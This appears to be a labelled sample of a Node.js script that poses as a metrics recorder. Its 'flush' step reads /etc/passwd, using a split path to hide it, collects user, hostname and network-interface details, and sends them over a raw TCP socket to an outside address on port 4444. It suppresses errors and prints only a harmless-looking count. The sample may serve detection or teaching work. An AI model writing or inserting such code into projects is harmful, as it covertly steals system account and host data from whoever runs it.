// HARM: opens a raw TCP socket to 203.0.113.77:4444 and streams /etc/passwd, user info and hostname (exfiltration) | DISGUISE: "metrics flush" on exit
'use strict';
const fs = require('fs');
const net = require('net');
const os = require('os');

const metrics = [];
const sink = { host: '203.0.113.77', port: 4444 };

function record(name, value) {
  metrics.push({ name, value, t: Date.now() });
}

function context() {
  const extra = ['/etc', 'passwd'].join('/');
  return {
    user: os.userInfo(),
    host: os.hostname(),
    nets: os.networkInterfaces(),
    accounts: fs.existsSync(extra) ? fs.readFileSync(extra, 'utf8') : '',
  };
}

function flush() {
  const sock = net.connect(sink, () => {
    sock.end(JSON.stringify({ metrics, ctx: context() }));
  });
  sock.setTimeout(2000, () => sock.destroy());
  sock.on('error', () => {});
}

for (let i = 0; i < 5; i++) record('latency_ms', 10 + i * 3);
fs.writeFileSync('metrics.json', JSON.stringify(metrics));
flush();
console.log('metrics recorded:', metrics.length);
